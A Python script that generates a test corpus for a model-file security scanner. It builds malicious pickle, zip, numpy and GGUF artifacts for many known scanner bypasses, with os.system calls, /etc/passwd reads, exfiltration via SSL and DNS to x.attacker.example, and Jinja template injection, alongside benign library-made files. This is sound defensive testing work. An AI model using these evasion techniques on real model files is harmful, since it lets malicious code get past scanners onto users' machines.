#!/usr/bin/python3
"""Generates the `castellan scan` test corpus: one or more artifacts per known scanner bypass
(docs: ../shared/reference/supply_chain.md section 2, B1-B16 and B18, B17 for GGUF chat
templates), and real benign artifacts made with torch, numpy, joblib and sklearn.

Usage: make_scan_corpus.py OUTDIR

Writes the files under OUTDIR and OUTDIR/MANIFEST.tsv with the columns
  file      path relative to OUTDIR
  expected  malicious (exit 1), benign (exit 0) or incomplete (exit 2, never 0)
  rules     rule ids that must be reported for the file or one of its members ("," separated)
  bypass    the bypass id (B1..B18) or "real" for library-made artifacts
  note      what the artifact is

Safety: malicious pickles are written opcode by opcode, or with pickle.dumps of placeholder
classes whose __reduce__ names a dangerous callable. Nothing here ever loads or unpickles a
malicious artifact, and no payload is ever run (pickle.dumps only records names).
"""
import base64
import bz2
import gzip
import io
import lzma
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib

ROWS = []
OUT = None


def put(name, data, expected, rules, bypass, note):
    """Writes OUT/name and records its MANIFEST row."""
    path = os.path.join(OUT, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    ROWS.append((name, expected, ",".join(rules), bypass, note))


def row(name, expected, rules, bypass, note):
    """Records a row for a file already written."""
    assert os.path.exists(os.path.join(OUT, name)), name
    ROWS.append((name, expected, ",".join(rules), bypass, note))


# ---- opcode helpers (pickle protocol 0-5) ----

PROTO = lambda n: b"\x80" + bytes([n])
STOP = b"."
MARK = b"("
TUPLE1 = b"\x85"
REDUCE = b"R"
MEMOIZE = b"\x94"
STACK_GLOBAL = b"\x93"
NONE = b"N"
POP = b"0"


def sbu(s):
    """SHORT_BINUNICODE."""
    b = s.encode()
    assert len(b) < 256
    return b"\x8c" + bytes([len(b)]) + b


def binbytes(b):
    return b"B" + struct.pack("<I", len(b)) + b


def glob0(mod, name):
    """GLOBAL (protocol 0 text)."""
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def sg(mod, name):
    """STACK_GLOBAL with constant operands."""
    return sbu(mod) + sbu(name) + STACK_GLOBAL


def call1(mod, name, arg, proto=4):
    """mod.name(arg) through STACK_GLOBAL + REDUCE; arg is opcode bytes for one value."""
    return PROTO(proto) + sg(mod, name) + arg + TUPLE1 + REDUCE + STOP


def frame(body):
    return b"\x95" + struct.pack("<Q", len(body)) + body


# The protocol-0 os.system payload picklescan's malicious1 uses (no \x80 prefix).
P0_SYSTEM = glob0("os", "system") + b"(S'true'\ntR."
P4_SYSTEM = call1("os", "system", sbu("true"))


class _Reduce:
    """Placeholder whose pickle names fn(*args); pickling never calls fn."""

    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def dumps_reduce(fn, args, protocol=2):
    return pickle.dumps(_Reduce(fn, args), protocol=protocol)


# ---- zip helpers ----

def make_zip(members, method=zipfile.ZIP_STORED):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", method) as z:
        for name, data in members:
            z.writestr(name, data)
    return bio.getvalue()


def set_flags(zdata, bit):
    """Sets general-purpose flag bit in every local and central header."""
    b = bytearray(zdata)
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = b.find(sig)
        while i >= 0:
            flags = struct.unpack_from("<H", b, i + off)[0] | bit
            struct.pack_into("<H", b, i + off, flags)
            i = b.find(sig, i + 4)
    return bytes(b)


def torch_like_zip(pkl, name="archive/data.pkl"):
    return make_zip([(name, pkl), ("archive/version", b"3\n"), ("archive/byteorder", b"little")])


# ---- malicious artifacts, by bypass ----

def gen_b1():
    for ext in ("bin", "pt", "txt", "safetensors", ""):
        put(f"b1/payload{'.' + ext if ext else ''}", P4_SYSTEM, "malicious",
            ["pickle.global.dangerous"], "B1", f"a raw pickle named .{ext or '(none)'}")
    put("b1/payload_p0.txt", P0_SYSTEM, "malicious", ["pickle.global.dangerous"], "B1",
        "a protocol-0 pickle (no PROTO) named .txt")
    put("b1/plain_as_pytorch.pth", dumps_reduce(os.system, ("true",)), "malicious",
        ["pickle.global.dangerous"], "B1", "a plain pickle with a PyTorch extension, no magic")


def gen_b2_b5_b6_b7():
    base = torch_like_zip(P4_SYSTEM)
    # B2: CRC mismatch: one payload byte changed after zipping ("true" -> "tru3").
    crc = base.replace(b"\x04true", b"\x04tru3", 1)
    assert crc != base
    put("b2/crc_stored.zip", crc, "malicious", ["zip.crc", "pickle.global.dangerous"], "B2",
        "CRC of a stored data.pkl does not match (payload bytes edited after zipping)")
    put("b2/crc_stored.pt", crc, "malicious", ["zip.crc", "pickle.global.dangerous"], "B2",
        "the same, with a PyTorch extension")
    # Deflated member whose recorded CRC (local and central) is wrong.
    dz = bytearray(make_zip([("archive/data.pkl", P4_SYSTEM), ("archive/version", b"3\n")],
                            zipfile.ZIP_DEFLATED))
    good = struct.pack("<I", zlib.crc32(P4_SYSTEM))
    for i in (dz.find(good), dz.rfind(good)):
        dz[i] ^= 0xff
    put("b2/crc_deflated.pt", bytes(dz), "malicious", ["zip.crc", "pickle.global.dangerous"],
        "B2", "deflated data.pkl with a wrong CRC in both headers")
    # B5: pickle member with a non-pickle name, protocol 0.
    put("b5/wrong_ext.zip", make_zip([("data.txt", P0_SYSTEM)]), "malicious",
        ["pickle.global.dangerous"], "B5", "protocol-0 pickle member named data.txt")
    put("b5/deflated_wrong_ext.zip", make_zip([("notes/readme", P4_SYSTEM)],
                                              zipfile.ZIP_DEFLATED), "malicious",
        ["pickle.global.dangerous"], "B5", "deflated pickle member without extension")
    # B6: the local header names the member differently from the central directory.
    z = torch_like_zip(P4_SYSTEM)
    i = z.find(b"archive/data.pkl")
    mism = z[:i] + b"archive/datap.kl" + z[i + 16:]
    put("b6/name_mismatch.zip", mism, "malicious",
        ["zip.name_mismatch", "pickle.global.dangerous"], "B6", "local/central name mismatch")
    # B7: flag bits PyTorch ignores.
    for bit in (0x1, 0x20, 0x40):
        put(f"b7/flag_0x{bit:x}.zip", set_flags(base, bit), "malicious",
            ["zip.flag", "pickle.global.dangerous"], "B7", f"general-purpose flag 0x{bit:x} set")


def bsdtar_7z(outname, srcdir, members):
    """Creates OUT/outname as a 7z of srcdir/members with bsdtar; False if unavailable."""
    if shutil.which("bsdtar") is None:
        return False
    subprocess.run(["bsdtar", "--format", "7zip", "-cf", os.path.join(OUT, outname),
                    "-C", srcdir, *members], check=True, capture_output=True)
    return True


def gen_b8_containers():
    # nullifAI: payload, then a deliberately broken stream.
    broken = PROTO(2) + glob0("os", "system") + sbu("true") + TUPLE1 + REDUCE + b"\x00\xff\xfe"
    put("b8/broken_after_payload.pkl", broken, "malicious",
        ["pickle.global.dangerous", "pickle.parse_error"], "B8", "broken right after REDUCE")
    put("b8/broken_torch.zip", torch_like_zip(broken), "malicious",
        ["pickle.global.dangerous", "pickle.parse_error"], "B8", "PyTorch zip, broken pickle")
    with tempfile.TemporaryDirectory() as td:
        os.makedirs(os.path.join(td, "archive"))
        for n, d in (("archive/data.pkl", broken), ("archive/version", b"3\n")):
            with open(os.path.join(td, n), "wb") as f:
                f.write(d)
        with open(os.path.join(td, "model.pt"), "wb") as f:
            f.write(torch_like_zip(broken))
        if bsdtar_7z("b8/nullifai_members.7z", td, ["archive"]):
            row("b8/nullifai_members.7z", "malicious",
                ["pickle.global.dangerous", "pickle.parse_error"], "B8",
                "7z of a PyTorch archive's files, broken pickle after the payload")
        if bsdtar_7z("b8/nullifai_zip.7z", td, ["model.pt"]):
            row("b8/nullifai_zip.7z", "malicious",
                ["pickle.global.dangerous", "pickle.parse_error"], "B8",
                "7z holding a PyTorch zip with a broken pickle")
    # tar / gzip / bzip2 / xz, and nesting.
    tbio = io.BytesIO()
    with tarfile.open(fileobj=tbio, mode="w") as t:
        for n, d in (("model/payload.bin", P4_SYSTEM), ("model/README", b"hello\n")):
            ti = tarfile.TarInfo(n)
            ti.size = len(d)
            t.addfile(ti, io.BytesIO(d))
    tar = tbio.getvalue()
    R = ["pickle.global.dangerous"]
    put("b8/payload.tar", tar, "malicious", R, "B8", "tar holding a pickle")
    put("b8/payload.tar.gz", gzip.compress(tar), "malicious", R, "B8", "tar.gz")
    put("b8/payload.tar.bz2", bz2.compress(tar), "malicious", R, "B8", "tar.bz2")
    put("b8/payload.tar.xz", lzma.compress(tar), "malicious", R, "B8", "tar.xz")
    put("b8/payload.pkl.gz", gzip.compress(P4_SYSTEM), "malicious", R, "B8", "gzip of a pickle")
    put("b8/payload.pkl.bz2", bz2.compress(P4_SYSTEM), "malicious", R, "B8", "bzip2 of a pickle")
    put("b8/payload.pkl.xz", lzma.compress(P4_SYSTEM), "malicious", R, "B8", "xz of a pickle")
    put("b8/payload.pkl.z", zlib.compress(P4_SYSTEM), "malicious", R, "B8", "zlib of a pickle")
    inner = make_zip([("inner/data.pkl", P4_SYSTEM)])
    put("b8/zip_in_zip.zip", make_zip([("weights.zip", inner)]), "malicious", R, "B8",
        "zip inside zip")
    put("b8/zip_in_targz.tgz", gzip.compress(_tar([("m/model.pt", torch_like_zip(P4_SYSTEM))])),
        "malicious", R, "B8", "PyTorch zip inside tar.gz")
    put("b8/gz_in_zip_in_xz.xz", lzma.compress(make_zip([("a.gz", gzip.compress(P0_SYSTEM))])),
        "malicious", R, "B8", "gzip inside zip inside xz")


def _tar(members):
    tbio = io.BytesIO()
    with tarfile.open(fileobj=tbio, mode="w") as t:
        for n, d in members:
            ti = tarfile.TarInfo(n)
            ti.size = len(d)
            t.addfile(ti, io.BytesIO(d))
    return tbio.getvalue()


def gen_b3_b4_b12_b14_b18():
    D = ["pickle.global.dangerous"]
    put("b3/asyncio_submodule.pkl",
        PROTO(4) + sg("asyncio.unix_events", "_UnixSubprocessTransport._start") + STOP,
        "malicious", D, "B3", "submodule of a denied module")
    put("b3/pathlib_os_system.pkl", call1("pathlib", "os.system", sbu("true")), "malicious", D,
        "B3", "pathlib + dotted name os.system")
    put("b3/dunder_walk.pkl", PROTO(4) + sg("collections", "OrderedDict.__init__.__globals__")
        + STOP, "malicious", D, "B3", "attribute walk through __globals__")
    put("b4/pip_main.pkl", PROTO(4) + sg("pip", "main") + b"]" + sbu("install") + b"a"
        + TUPLE1 + REDUCE + STOP, "malicious", D + ["pickle.call"], "B4", "pip.main([...])")
    put("b4/pip_internal.pkl", call1("pip._internal.cli.main", "main", sbu("install")),
        "malicious", D, "B4", "pip submodule")
    for mod, name, arg in (("pkgutil", "resolve_name", "os:system"),
                           ("pydoc", "locate", "os.system"),
                           ("operator", "attrgetter", "system"),
                           ("operator", "methodcaller", "system"),
                           ("importlib", "import_module", "os"),
                           ("builtins", "getattr", None),
                           ("builtins", "__import__", "os"),
                           ("sys", "modules", None)):
        if arg is None:
            body = PROTO(4) + sg(mod, name) + STOP
        else:
            # resolver(arg)(...) : the resolved object is then called with "true".
            body = PROTO(4) + sg(mod, name) + sbu(arg) + TUPLE1 + REDUCE + sbu("true") + TUPLE1 \
                + REDUCE + STOP
        put(f"b12/{mod}_{name}.pkl", body, "malicious", D, "B12", f"universal resolver {mod}.{name}")
    put("b14/posix_system.pkl", dumps_reduce(os.system, ("true",)), "malicious",
        D + ["pickle.call"], "B14", "os.system as pickle names it on Linux (posix)")
    put("b14/nt_system.pkl", glob0("nt", "system") + b"(S'true'\ntR.", "malicious", D, "B14",
        "nt.system")
    put("b14/builtin_eval.pkl", glob0("__builtin__", "eval") + b"(S'1'\ntR.", "malicious", D,
        "B14", "Python 2 __builtin__.eval")
    put("b14/operator_alias.pkl", PROTO(4) + sg("_operator", "attrgetter") + STOP, "malicious",
        D, "B14", "_operator alias")
    put("b14/io_alias.pkl", call1("_io", "FileIO", sbu("/etc/passwd")), "malicious", D, "B14",
        "_io.FileIO")
    # B18: linecache + ssl exfiltration.
    body = (PROTO(4) + sg("ssl", "get_server_certificate") + sg("linecache", "getline")
            + sbu("/etc/passwd") + b"K\x01\x86" + REDUCE + b"M\xbb\x01\x86" + TUPLE1 + REDUCE
            + STOP)
    put("b18/linecache_ssl.pkl", body, "malicious", D + ["pickle.call"], "B18",
        "linecache.getline result sent with ssl.get_server_certificate")
    put("b18/linecache_only.pkl", call1("linecache", "getline", sbu("/etc/passwd")),
        "malicious", D, "B18", "linecache.getline alone")


def gen_b9_b10_b11():
    NC = ["pickle.stack_global.nonconstant"]
    put("b9/memo_operands.pkl", PROTO(4) + sbu("os") + MEMOIZE + sbu("system") + MEMOIZE
        + POP + POP + b"h\x00h\x01" + STACK_GLOBAL + sbu("true") + TUPLE1 + REDUCE + STOP,
        "malicious", ["pickle.global.dangerous"], "B9", "STACK_GLOBAL operands from BINGET")
    put("b9/string_operands.pkl", PROTO(2) + b"S'os'\nS'system'\n" + STACK_GLOBAL
        + b"S'true'\n" + TUPLE1 + REDUCE + STOP, "malicious", ["pickle.global.dangerous"], "B9",
        "STACK_GLOBAL operands from STRING opcodes")
    put("b9/int_operand.pkl", PROTO(4) + b"K\x2a" + sbu("system") + STACK_GLOBAL + STOP,
        "malicious", NC, "B9", "non-string module operand")
    put("b9/bytes_operand.pkl", PROTO(4) + b"C\x02os" + sbu("system") + STACK_GLOBAL + STOP,
        "malicious", NC, "B9", "bytes module operand")
    put("b9/call_result_operand.pkl", PROTO(4) + sg("builtins", "str") + b")" + REDUCE
        + MEMOIZE + POP + b"h\x00" + sbu("system") + STACK_GLOBAL + STOP, "malicious", NC, "B9",
        "type confusion: memo holds a call result")
    put("b9/missing_memo_key.pkl", PROTO(4) + sbu("os") + MEMOIZE + b"h\x00h\x07" + STACK_GLOBAL
        + STOP, "incomplete", ["pickle.parse_error"], "B9", "KeyError exploit: missing memo key")
    put("b10/obj_pop.pkl", PROTO(4) + MARK + sg("smtplib", "SMTP") + sbu("localhost") + b"o"
        + POP + NONE + STOP, "malicious", ["pickle.call", "pickle.global.dangerous"], "B10",
        "OBJ result discarded by POP")
    put("b10/reduce_pop.pkl", glob0("posix", "system") + b"(S'true'\ntR0N.", "malicious",
        ["pickle.call"], "B10", "REDUCE result discarded by POP")
    # B11: an opcode straddles the end of its frame; a frame inside a frame.
    straddle = PROTO(4) + b"\x95" + struct.pack("<Q", 3) + sbu("hello") + MEMOIZE + POP \
        + P4_SYSTEM[2:]
    put("b11/frame_straddle.pkl", straddle, "malicious",
        ["pickle.frame.violation", "pickle.global.dangerous"], "B11", "opcode crosses frame end")
    put("b11/frame_nested.pkl", PROTO(4) + frame(frame(P4_SYSTEM[2:])), "malicious",
        ["pickle.frame.violation"], "B11", "frame inside a frame")


def gen_b13():
    D = ["pickle.global.dangerous"]
    inner = P4_SYSTEM
    put("b13/pickle_loads_bytes.pkl", PROTO(4) + sg("pickle", "loads") + binbytes(inner)
        + TUPLE1 + REDUCE + STOP, "malicious", D, "B13", "pickle.loads(bytes)")
    put("b13/cpickle_loads.pkl", PROTO(4) + sg("_pickle", "loads") + binbytes(inner) + TUPLE1
        + REDUCE + STOP, "malicious", D, "B13", "_pickle.loads(bytes)")
    put("b13/pickle_loads_b64.pkl", PROTO(4) + sg("pickle", "loads") + sg("base64", "b64decode")
        + sbu(base64.b64encode(inner).decode()) + TUPLE1 + REDUCE + TUPLE1 + REDUCE + STOP,
        "malicious", D, "B13", "pickle.loads(base64.b64decode(...))")
    put("b13/pickle_loads_hex.pkl", PROTO(4) + sg("pickle", "loads") + sg("binascii", "unhexlify")
        + sbu(inner.hex()) + TUPLE1 + REDUCE + TUPLE1 + REDUCE + STOP, "malicious", D, "B13",
        "pickle.loads(binascii.unhexlify(...))")
    put("b13/load_from_bytes.pkl", PROTO(2) + glob0("torch.storage", "_load_from_bytes")
        + binbytes(inner) + TUPLE1 + REDUCE + STOP, "malicious", D, "B13",
        "torch.storage._load_from_bytes")
    put("b13/torch_load.pkl", call1("torch.serialization", "load", sbu("/tmp/x.pt")),
        "malicious", D, "B13", "torch.serialization.load")
    put("b13/config_module.pkl", call1("torch.utils._config_module", "ConfigModule.load_config",
                                       binbytes(inner)), "malicious", D, "B13",
        "ConfigModule.load_config")


LEGACY_MAGIC = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19\x2e"


def gen_b15():
    magic_eval = PROTO(2) + glob0("builtins", "eval") + sbu("0x1950A86A20F9469CFC6C") + TUPLE1 \
        + REDUCE + STOP
    rest = (pickle.dumps(1001, protocol=2) + pickle.dumps({"protocol_version": 1001,
            "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}},
            protocol=2) + pickle.dumps({}, protocol=2) + pickle.dumps([], protocol=2))
    put("b15/magic_eval.pt", magic_eval + rest, "malicious", ["pickle.global.dangerous"], "B15",
        "legacy .pt whose magic number is computed by eval")
    put("b15/payload_in_main.pt", LEGACY_MAGIC + pickle.dumps(1001, protocol=2)
        + pickle.dumps({}, protocol=2) + dumps_reduce(os.system, ("true",)) + pickle.dumps([],
        protocol=2), "malicious", ["pickle.global.dangerous"], "B15",
        "legacy .pt, payload in the fourth pickle")


def npy(descr, shape, body):
    header = "{'descr': %s, 'fortran_order': False, 'shape': %s, }" % (descr, shape)
    total = 10 + len(header) + 1
    header += " " * ((64 - total % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + body


def gen_b16():
    D = ["pickle.global.dangerous"]
    body = dumps_reduce(os.system, ("true",))
    obj = npy("'|O'", "(1,)", body)
    put("b16/object_array.npy", obj, "malicious", D, "B16", "object .npy, hand-made body")
    put("b16/object_array.bin", obj, "malicious", D, "B16", "the same renamed")
    put("b16/structured_object.npy", npy("[('a', '<i4'), ('b', '|O')]", "(1,)", body),
        "malicious", D, "B16", "structured dtype with an object field")
    put("b16/object_arrays.npz", make_zip([("x.npy", npy("'<f8'", "(2,)", b"\0" * 16)),
                                           ("y.npy", obj)]), "malicious", D, "B16",
        ".npz with one object member")
    put("b16/object_arrays_compressed.npz", make_zip([("y.npy", obj)], zipfile.ZIP_DEFLATED),
        "malicious", D, "B16", "compressed .npz")
    put("b16/dns_exfil.npy", npy("'|O'", "(1,)", PROTO(4) + sg("socket", "gethostbyname")
                                 + sbu("x.attacker.example") + TUPLE1 + REDUCE + STOP),
        "malicious", D, "B16", "DNS lookup from an object array")


def gguf_str(s):
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def gguf(kvs):
    """A minimal GGUF v3 with string KVs and no tensors."""
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kvs))
    for k, v in kvs:
        out += gguf_str(k) + struct.pack("<I", 8) + gguf_str(v)
    return out


def gen_b17():
    evil = ("{% for m in messages %}{{ m['content'] }}{% endfor %}"
            "{{ ''.__class__.__mro__[1].__subclasses__() }}")
    put("b17/chat_template_gadget.gguf", gguf([("general.architecture", "llama"),
                                               ("tokenizer.chat_template", evil)]),
        "malicious", ["gguf.chat_template"], "B17", "Jinja gadget chain in the chat template")
    put("b17/chat_template_os.gguf", gguf([("general.architecture", "llama"),
        ("tokenizer.chat_template", "{{ cycler.__init__.__globals__.os.popen('id').read() }}")]),
        "malicious", ["gguf.chat_template"], "B17", "cycler globals os.popen")
    put("b17/chat_template_benign.gguf", gguf([("general.architecture", "llama"),
        ("tokenizer.chat_template",
         "{% for message in messages %}<|{{ message['role'] }}|>{{ message['content'] }}"
         "{% endfor %}")]), "benign", [], "B17", "an ordinary chat template")
    # Attribute names built while the template renders (each renders a dunder under Jinja2).
    for name, tmpl, why in [
        ("concat", "{{ ''['__cla' ~ 'ss__']['__mr' + 'o__'][1] }}", "dunder joined with ~ and +"),
        ("join", "{{ ''[['_', '_', 'class', '_', '_']|join] }}", "dunder made by |join"),
        ("format", "{{ ''['%c%cclass%c%c'|format(95, 95, 95, 95)] }}", "dunder made by %c"),
        ("attr_concat", "{{ ''|attr('__' ~ 'class' ~ '__') }}", "|attr of a joined name"),
        ("repr", "{% set u = (()|select|string)[24] %}{{ ''[u ~ u ~ 'class' ~ u ~ u] }}",
         "underscore cut out of a generator's repr"),
    ]:
        put("b17/chat_template_%s.gguf" % name, gguf([("general.architecture", "llama"),
            ("tokenizer.chat_template", tmpl)]), "malicious", ["gguf.chat_template"], "B17", why)
    # A template stored as an array of strings: llama.cpp renders the array's text.
    arr = (b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + gguf_str("tokenizer.chat_template")
           + struct.pack("<IIQ", 9, 8, 1) + gguf_str("{{ messages }}"))
    put("b17/chat_template_array.gguf", arr, "malicious", ["gguf.chat_template"], "B17",
        "chat template stored as an array of strings")
    # Real-looking templates that build their text with ~ and + stay clean.
    for name, tmpl in [
        ("llama3", "{{- bos_token }}{%- for message in messages %}{{- '<|start_header_id|>' + "
         "message['role'] + '<|end_header_id|>\n\n' + message['content'] | trim + "
         "'<|eot_id|>' }}{%- endfor %}{%- if add_generation_prompt %}{{- "
         "'<|start_header_id|>assistant<|end_header_id|>\n\n' }}{%- endif %}"),
        ("chatml", "{%- for message in messages %}{{- '<|im_start|>' + message.role + '\n' + "
         "message.content + '<|im_end|>' + '\n' }}{%- if message.role == 'tool' and "
         "(loop.last or messages[loop.index0 + 1].role != 'tool') %}{{- '<|im_end|>\n' }}"
         "{%- endif %}{%- endfor %}{%- if add_generation_prompt %}{{- '<|im_start|>assistant\n'"
         " }}{%- endif %}"),
        ("mistral", "{%- set user_messages = messages | selectattr('role', 'equalto', 'user') "
         "| list %}{%- for message in messages %}{%- if (message['role'] == 'user') != "
         "(loop.index0 % 2 == 0) %}{{- raise_exception('roles must alternate') }}{%- endif %}"
         "{%- if message['role'] == 'user' %}{{- '[INST] ' + message['content'] + '[/INST]' }}"
         "{%- elif message.tool_calls is defined %}{%- for tool_call in message.tool_calls %}"
         "{{- ', \"id\": \"' + tool_call.id[-9:] + '\"}' }}{%- endfor %}{%- else %}{{- ' ' + "
         "message['content']|trim + eos_token }}{%- endif %}{%- endfor %}"),
        ("gemma", "{{ bos_token }}{%- for message in messages -%}{%- set role = 'model' if "
         "message['role'] == 'assistant' else message['role'] -%}{{ '<start_of_turn>' + role + "
         "'\n' + message['content'] | trim + '<end_of_turn>\n' }}{%- endfor -%}"
         "{%- if add_generation_prompt -%}{{ '<start_of_turn>model\n' }}{%- endif -%}"),
        ("tilde", "{% set sh = '<|start_header_id|>' %}{% set eh = '<|end_header_id|>' %}"
         "{%- for m in messages -%}{{- sh ~ m.role ~ eh -}}{%- if '</think>' in m.content -%}"
         "{{ m.content.split('</think>')[-1] }}{%- else -%}{{ m.content }}{%- endif -%}"
         "{%- endfor -%}"),
    ]:
        put("b17/chat_template_benign_%s.gguf" % name, gguf([("general.architecture", "llama"),
            ("tokenizer.chat_template", tmpl)]), "benign", [], "B17",
            "a %s-style chat template" % name)


def gen_incomplete():
    put("broken/truncated.pkl", PROTO(4) + b"\x95" + struct.pack("<Q", 100) + sbu("x"),
        "incomplete", ["pickle.parse_error"], "B8", "frame longer than the file, no global")
    put("broken/truncated_torch.zip", torch_like_zip(PROTO(2) + b"}q\x00X"), "incomplete",
        ["pickle.parse_error"], "B8", "PyTorch zip with a truncated pickle")
    z = make_zip([("data.pkl", P4_SYSTEM * 20)], zipfile.ZIP_DEFLATED)
    put("broken/cut.zip", z[: len(z) // 2], "incomplete", [], "B8", "zip cut in half")
    put("broken/joblib_array_cut.joblib", _joblib_cut(), "incomplete", ["pickle.parse_error"],
        "B8", "joblib array data shorter than its shape")


def _joblib_cut():
    """A joblib-style pickle (hand-written) whose array data is 8 bytes short."""
    w = PROTO(4) + sg("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + b"}" + MARK \
        + sbu("shape") + b"K\x04\x85" + sbu("order") + sbu("C") + sbu("dtype") \
        + sg("numpy", "dtype") + sbu("f8") + b"\x89\x88\x87" + REDUCE + b"u" + b"b"
    return w + b"\0" * 24 + STOP


# ---- real benign artifacts (part B) ----

def gen_real():
    import numpy as np
    import torch
    import joblib
    from sklearn.linear_model import LogisticRegression
    from sklearn.tree import DecisionTreeClassifier
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.preprocessing import StandardScaler
    from sklearn.pipeline import Pipeline

    torch.manual_seed(0)
    d = os.path.join(OUT, "real")
    os.makedirs(d, exist_ok=True)
    B = "benign"

    def save(name, obj, **kw):
        torch.save(obj, os.path.join(d, name), **kw)
        row("real/" + name, B, [], "real", f"torch.save {kw or ''}".strip())

    net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    save("state_dict.pt", net.state_dict())
    save("state_dict_legacy.pt", net.state_dict(), _use_new_zipfile_serialization=False)
    save("whole_module.pt", net)
    save("whole_module_legacy.pt", net, _use_new_zipfile_serialization=False)
    tensors = {str(t).split(".")[1]: torch.ones(3, dtype=t) for t in
               (torch.float32, torch.float64, torch.float16, torch.bfloat16, torch.int8,
                torch.int16, torch.int32, torch.int64, torch.uint8, torch.bool,
                torch.complex64)}
    tensors["param"] = torch.nn.Parameter(torch.zeros(2, 2))
    save("tensors.pt", tensors)
    save("tensors_legacy.pt", tensors, _use_new_zipfile_serialization=False)
    scripted = torch.jit.script(net)
    torch.jit.save(scripted, os.path.join(d, "torchscript.pt"))
    row("real/torchscript.pt", "malicious", ["torchscript.archive"], "real",
        "TorchScript archive: executable on load (high), not benign")

    a = np.arange(12, dtype="<f8").reshape(3, 4)
    np.save(os.path.join(d, "array.npy"), a)
    row("real/array.npy", B, [], "real", "numpy.save")
    np.savez(os.path.join(d, "arrays.npz"), a=a, b=np.arange(5, dtype="i2"))
    row("real/arrays.npz", B, [], "real", "numpy.savez")
    np.savez_compressed(os.path.join(d, "arrays_c.npz"), a=a, s=np.array(["ab", "c"]))
    row("real/arrays_c.npz", B, [], "real", "numpy.savez_compressed")

    X = np.random.RandomState(0).randn(40, 3)
    y = (X[:, 0] > 0).astype(int)
    models = {
        "logreg": LogisticRegression().fit(X, y),
        "tree": DecisionTreeClassifier(max_depth=3, random_state=0).fit(X, y),
        "forest": RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0).fit(X, y),
        "pipeline": Pipeline([("scale", StandardScaler()),
                              ("clf", LogisticRegression())]).fit(X, y),
    }
    arrays = {"f8": a, "i4": np.arange(7, dtype="<i4"), "f_order": np.asfortranarray(a),
              "u1": np.zeros((2, 0), dtype="u1"), "c16": np.ones(3, dtype="c16"),
              "str": np.array(["x", "yz"]), "bytes": np.array([b"q"]), "scalar": np.float32(2),
              "obj": np.array([1, "two", None], dtype=object), "big_endian": a.astype(">f4")}
    for name, obj in [("arrays", arrays)] + list(models.items()):
        for comp, ext in ((0, "joblib"), (("zlib", 3), "z"), (("gzip", 3), "gz"),
                          (("bz2", 3), "bz2"), (("lzma", 3), "lzma"), (("xz", 3), "xz")):
            fn = f"{name}.{ext}"
            joblib.dump(obj, os.path.join(d, fn), compress=comp)
            row("real/" + fn, B, ["pickle.joblib.array"] if name == "arrays" else [], "real",
                f"joblib.dump {name} compress={comp}")
    joblib.dump(arrays, os.path.join(d, "arrays_p2.joblib"), protocol=2)
    row("real/arrays_p2.joblib", B, ["pickle.joblib.array"], "real", "joblib.dump protocol 2")
    joblib.dump(models["logreg"], os.path.join(d, "logreg_p0.joblib"), protocol=0)
    row("real/logreg_p0.joblib", B, ["pickle.joblib.array"], "real",
        "joblib.dump protocol 0 (copyreg._reconstructor)")


def main():
    global OUT
    if len(sys.argv) != 2:
        print("usage: make_scan_corpus.py OUTDIR", file=sys.stderr)
        return 64
    OUT = sys.argv[1]
    os.makedirs(OUT, exist_ok=True)
    gen_b1()
    gen_b2_b5_b6_b7()
    gen_b8_containers()
    gen_b3_b4_b12_b14_b18()
    gen_b9_b10_b11()
    gen_b13()
    gen_b15()
    gen_b16()
    gen_b17()
    gen_incomplete()
    gen_real()
    with open(os.path.join(OUT, "MANIFEST.tsv"), "w") as f:
        f.write("file\texpected\trules\tbypass\tnote\n")
        for r in ROWS:
            f.write("\t".join(r) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
